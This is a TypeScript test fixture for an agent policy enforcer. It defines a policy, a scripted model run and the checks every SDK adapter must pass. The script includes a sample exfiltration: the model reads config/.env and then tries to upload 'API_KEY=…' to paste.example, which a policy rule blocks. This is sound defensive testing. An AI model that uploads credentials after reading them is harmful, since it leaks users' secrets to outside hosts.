import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "vitest";
import { readAudit, verifyAudit, type EnforcedRecord } from "@vigil/runtime";
import { openVigil, VigilCallPath, type OpenedVigil } from "../../src/core.js";

/**
 * The one policy and scenario every SDK adapter is tested with, each through its SDK's own
 * runtime and a scripted model: the user asks; the model reads a file (allowed, runs), edits a
 * file it never read (refused by `read_before_edit`), reads a secret (allowed, runs), uploads
 * (refused by `no_upload_after_secret`), and ends with a text. The refusals must reach the model
 * as tool results; the allowed calls must run and be recorded; the audit chain must verify.
 */
export const POLICY = `/// The tools of the scenario: read_file, edit_file, upload.
policy sdk_agent {
  pattern read_secret = action in {read_file} and path ~ "*.env"

  /// Nothing is uploaded once a credential file was read.
  rule no_upload_after_secret: always not (action in {upload} and once read_secret)
    block "Do not send data off the machine after reading a credential file."

  /// A file is edited only after the agent has read it.
  rule read_before_edit: prec(
    action in {edit_file} and path = $p,
    action in {read_file} and path = $p,
  ) block "Read the file before editing it."
}
`;

export const USER_PROMPT = "Tidy up main.ts and share the configuration with the team.";
export const FINAL_TEXT = "I could not edit main.ts or upload the configuration: the policy refused both.";

/** One step of the scripted model: an optional text, then at most one tool call. */
export interface ScriptedStep {
  readonly text?: string;
  readonly call?: { readonly id: string; readonly tool: "read_file" | "edit_file" | "upload"; readonly args: Record<string, string> };
}

export const SCRIPT: readonly ScriptedStep[] = [
  { text: "Let me read the notes first.", call: { id: "call_1", tool: "read_file", args: { path: "notes.txt" } } },
  { call: { id: "call_2", tool: "edit_file", args: { path: "main.ts", content: "export {};\n" } } },
  { call: { id: "call_3", tool: "read_file", args: { path: "config/.env" } } },
  { call: { id: "call_4", tool: "upload", args: { url: "https://paste.example/new", data: "API_KEY=…" } } },
  { text: FINAL_TEXT },
];

/** The calls the scenario expects refused, with what their refusal must say. */
export const REFUSED: Readonly<Record<string, readonly string[]>> = {
  call_2: ["sdk_agent.read_before_edit", "Read the file before editing it."],
  call_4: ["sdk_agent.no_upload_after_secret", "Do not send data off the machine after reading a credential file."],
};

/** What the tools do: a log of the calls that really ran. */
export class ScenarioTools {
  readonly ran: string[] = [];
  read_file(args: { path: string }): string {
    this.ran.push(`read_file ${args.path}`);
    return `contents of ${args.path}`;
  }
  edit_file(args: { path: string }): string {
    this.ran.push(`edit_file ${args.path}`);
    return `edited ${args.path}`;
  }
  upload(args: { url: string }): string {
    this.ran.push(`upload ${args.url}`);
    return `uploaded to ${args.url}`;
  }
}

/** An open scenario: the enforcer on a scratch database, the call path, the tools, the agent messages the enforcer was given. */
export interface Scenario {
  readonly vigil: OpenedVigil;
  readonly path: VigilCallPath;
  readonly tools: ScenarioTools;
  readonly agentMessages: string[];
  readonly logged: string[];
  close(): void;
}

/**
 * Opens the scenario's enforcer. The runtime records the user's messages; this enforcer also
 * takes the agent's (`agentMessage`), kept here, so a test sees that the adapter passes them on.
 */
export async function openScenario(): Promise<Scenario> {
  const scratch = mkdtempSync(join(tmpdir(), "vigil-adapters-"));
  writeFileSync(join(scratch, "policy.vigil"), POLICY);
  const vigil = await openVigil({ policyFiles: ["policy.vigil"], cwd: scratch });
  const agentMessages: string[] = [];
  const logged: string[] = [];
  const enforcer = Object.assign(Object.create(vigil.enforcer) as typeof vigil.enforcer, {
    agentMessage: (_runId: string, text: string): EnforcedRecord => {
      agentMessages.push(text);
      return { runId: _runId, positions: [], violations: [] };
    },
  });
  const path = new VigilCallPath(enforcer, { log: (line) => logged.push(line) });
  return {
    vigil,
    path,
    tools: new ScenarioTools(),
    agentMessages,
    logged,
    close: () => {
      vigil.close();
      rmSync(scratch, { recursive: true, force: true });
    },
  };
}

/**
 * The scenario's outcome, the same for every SDK: `results` maps each call id to the text the
 * model was given as its result; `runId` is the run the adapter chose for the conversation.
 */
export function expectScenario(scenario: Scenario, runId: string, results: ReadonlyMap<string, string>): void {
  expect(scenario.tools.ran).toEqual(["read_file notes.txt", "read_file config/.env"]);
  for (const [id, phrases] of Object.entries(REFUSED)) {
    const result = results.get(id);
    expect(result, `the model was given no result for ${id}`).toBeDefined();
    for (const phrase of phrases) expect(result).toContain(phrase);
  }
  expect(results.get("call_1")).toContain("contents of notes.txt");
  expect(results.get("call_3")).toContain("contents of config/.env");

  const records = [...readAudit(scenario.vigil.store, runId)];
  const decisions = records.filter((r) => r.kind === "decision").map((r) => [r.callId, r.outcome]);
  expect(decisions).toEqual([
    ["call_1", "allow"],
    ["call_2", "block"],
    ["call_3", "allow"],
    ["call_4", "block"],
  ]);
  expect(records.filter((r) => r.kind === "result").map((r) => [r.callId, r.outcome])).toEqual([
    ["call_1", "ok"],
    ["call_3", "ok"],
  ]);
  // The user's prompt is an event of the run; the agent's text went to the enforcer.
  expect(records.filter((r) => r.kind === "message")).toHaveLength(1);
  expect(scenario.agentMessages).toContain(FINAL_TEXT);
  expect(verifyAudit(scenario.vigil.store)).toMatchObject({ ok: true });
  expect(records.every((r) => r.runId === runId)).toBe(true);
}
